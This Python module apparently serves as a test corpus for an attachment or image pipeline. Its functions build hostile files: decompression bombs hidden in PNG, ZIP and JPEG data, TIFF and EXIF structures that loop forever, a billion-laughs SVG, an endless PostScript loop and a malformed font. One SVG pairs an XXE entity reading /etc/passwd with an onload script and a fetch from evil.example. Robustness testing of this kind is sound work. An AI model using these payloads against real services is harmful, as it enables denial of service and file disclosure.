"""Attachments made to exhaust whoever opens them; each is small, or as large as a letter may be."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

PNG = b"\x89PNG\r\n\x1a\n"
SVG = b'<?xml version="1.0"?>\n'


def chunk(kind: bytes, content: bytes) -> bytes:
    checked = kind + content
    return struct.pack(">I", len(content)) + checked + struct.pack(">I", zlib.crc32(checked))


def png(width: int, height: int, color: int, *between: bytes, rows: bytes | None = None) -> bytes:
    """Depth 1 for gray (0), 8 for color (2, 6); its rows are empty unless given."""
    depth = 1 if color == 0 else 8
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0))
    data = chunk(b"IDAT", zlib.compress(rows if rows is not None else b"\0", 9))
    return PNG + head + b"".join(between) + data + chunk(b"IEND", b"")


def zeros(size: int) -> bytes:
    """That many zeros, deflated, without ever holding them."""
    packer = zlib.compressobj(9)
    piece = bytes(1 << 20)
    packed = [packer.compress(piece) for _ in range(size >> 20)]
    return b"".join([*packed, packer.flush()])


def png_of_a_gigapixel() -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0))
    return PNG + head + chunk(b"IDAT", zeros(450 << 20)) + chunk(b"IEND", b"")


def png_at_the_limit() -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 4_000, 4_000, 8, 6, 0, 0, 0))
    return PNG + head + chunk(b"IDAT", zeros(65 << 20)) + chunk(b"IEND", b"")


def png_of_noise() -> bytes:
    """Dear to decode and to shrink: nothing repeats."""
    wide, high = 2_200, 1_500
    row = random.Random(1).randbytes(wide * 4)
    return png(wide, high, 6, rows=b"".join(b"\4" + row for _ in range(high)))


def png_text() -> bytes:
    return png(1, 1, 2, chunk(b"zTXt", b"a\0\0" + zeros(900 << 20)), rows=b"\0\0\0\0")


def png_many_texts() -> bytes:
    text = chunk(b"zTXt", b"a\0\0" + zeros(1 << 20))
    return png(1, 1, 2, *[text] * 3_000, rows=b"\0\0\0\0")


def png_international_text() -> bytes:
    text = chunk(b"iTXt", b"a\0\1\0\0\0" + zeros(500 << 20))
    return png(1, 1, 2, text, rows=b"\0\0\0\0")


def png_profile() -> bytes:
    return png(1, 1, 2, chunk(b"iCCP", b"a\0\0" + zeros(500 << 20)), rows=b"\0\0\0\0")


def png_animated() -> bytes:
    control = struct.pack(">IIIIIHHBB", 0, 1, 1, 0, 0, 1, 1, 0, 0)
    frames = [chunk(b"acTL", struct.pack(">II", 1_000_000, 0))]
    frames += [chunk(b"fcTL", control)] * 20_000
    return png(1, 1, 2, *frames, rows=b"\0\0\0\0")


def gif(width: int, height: int, frames: int) -> bytes:
    """The same frame again and again."""
    written = io.BytesIO()
    Image.new("P", (width, height)).save(written, "GIF")
    whole = written.getvalue()
    at = whole.index(b",\0\0\0\0")
    return whole[:at] + whole[at:-1] * frames + b";"


def gif_frames() -> bytes:
    return gif(300, 300, 20_000)


def gif_largest() -> bytes:
    return gif(30_000, 10_000, 1)


def gif_at_the_limit() -> bytes:
    return gif(4_000, 4_000, 20)


def tiff_tags() -> bytes:
    """A million tags, each a million numbers long."""
    count = 65_535
    tags = b"".join(struct.pack("<HHII", tag % 65_535, 4, 1_000_000, 8) for tag in range(count))
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", count) + tags + b"\0\0\0\0"


def tiff_that_turns_in_circles() -> bytes:
    entry = struct.pack("<HHII", 256, 4, 1, 100_000)
    return b"II*\0" + struct.pack("<IH", 8, 1) + entry + struct.pack("<I", 8)


def jpeg(width: int, height: int, **options: object) -> bytes:
    written = io.BytesIO()
    Image.new("RGB", (width, height), "red").save(written, "JPEG", **options)
    return written.getvalue()


def jpeg_largest() -> bytes:
    """One small picture whose header says 65,500 by 65,500."""
    small = jpeg(64, 64)
    at = small.index(b"\xff\xc0") + 5
    return small[:at] + struct.pack(">HH", 65_500, 65_500) + small[at + 4 :]


def jpeg_of_scans() -> bytes:
    """A progressive one whose last scan comes again and again."""
    whole = jpeg(4_000, 4_000, progressive=True)
    begins = [at for at in range(len(whole) - 1) if whole[at : at + 2] == b"\xff\xda"]
    last = whole[begins[-1] : -2]
    return whole[:-2] + last * (8_000_000 // len(last)) + b"\xff\xd9"


def jpeg_cut_off() -> bytes:
    return jpeg(3_000, 3_000)[:5_000]


def jpeg_whose_exif_turns_in_circles() -> bytes:
    ifd = struct.pack("<H", 2) + struct.pack("<HHII", 0x8769, 4, 1, 8)
    ifd += struct.pack("<HHII", 0x0112, 4, 0xFFFFFFF, 8) + struct.pack("<I", 8)
    return jpeg(64, 64, exif=b"Exif\0\0II*\0" + struct.pack("<I", 8) + ifd)


def webp_largest() -> bytes:
    written = io.BytesIO()
    Image.new("L", (16_000, 4_000)).convert("RGB").save(written, "WEBP", lossless=True, method=0)
    return written.getvalue()


def webp_at_the_limit() -> bytes:
    written = io.BytesIO()
    Image.new("RGB", (4_000, 4_000)).save(written, "WEBP", lossless=True, method=0)
    return written.getvalue()


def bmp_largest() -> bytes:
    head = struct.pack("<IiiHHIIiiII", 40, 2**31 - 1, 2**31 - 1, 1, 32, 0, 0, 0, 0, 0, 0)
    return b"BM" + struct.pack("<IHHI", 54, 0, 0, 54) + head


def svg_laughs() -> bytes:
    lols = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(12)
    )
    return SVG + f"<!DOCTYPE svg [{lols}]><svg><text>&l11;</text></svg>".encode()


def svg_that_calls() -> bytes:
    entity = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    drawn = '<svg onload="alert(1)"><image href="https://evil.example/x"/>&x;</svg>'
    return SVG + (entity + drawn).encode()


def zip_of_zeros() -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("x", bytes(200 << 20))
    return written.getvalue()


def font() -> bytes:
    """A TrueType font whose every table is everywhere and endless."""
    tables = b"".join(
        struct.pack(">4sIII", name, 0, 0, 0xFFFFFFFF)
        for name in (b"glyf", b"loca", b"cmap") * 5_000
    )
    return b"\0\1\0\0" + struct.pack(">HHHH", 15_000, 0, 0, 0) + tables


def postscript() -> bytes:
    return b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n{} loop\n"


ALL: tuple[Callable[[], bytes], ...] = (
    png_of_a_gigapixel,
    png_at_the_limit,
    png_of_noise,
    png_text,
    png_many_texts,
    png_international_text,
    png_profile,
    png_animated,
    gif_frames,
    gif_largest,
    gif_at_the_limit,
    tiff_tags,
    tiff_that_turns_in_circles,
    jpeg_largest,
    jpeg_of_scans,
    jpeg_cut_off,
    jpeg_whose_exif_turns_in_circles,
    webp_largest,
    webp_at_the_limit,
    bmp_largest,
    svg_laughs,
    svg_that_calls,
    zip_of_zeros,
    font,
    postscript,
)
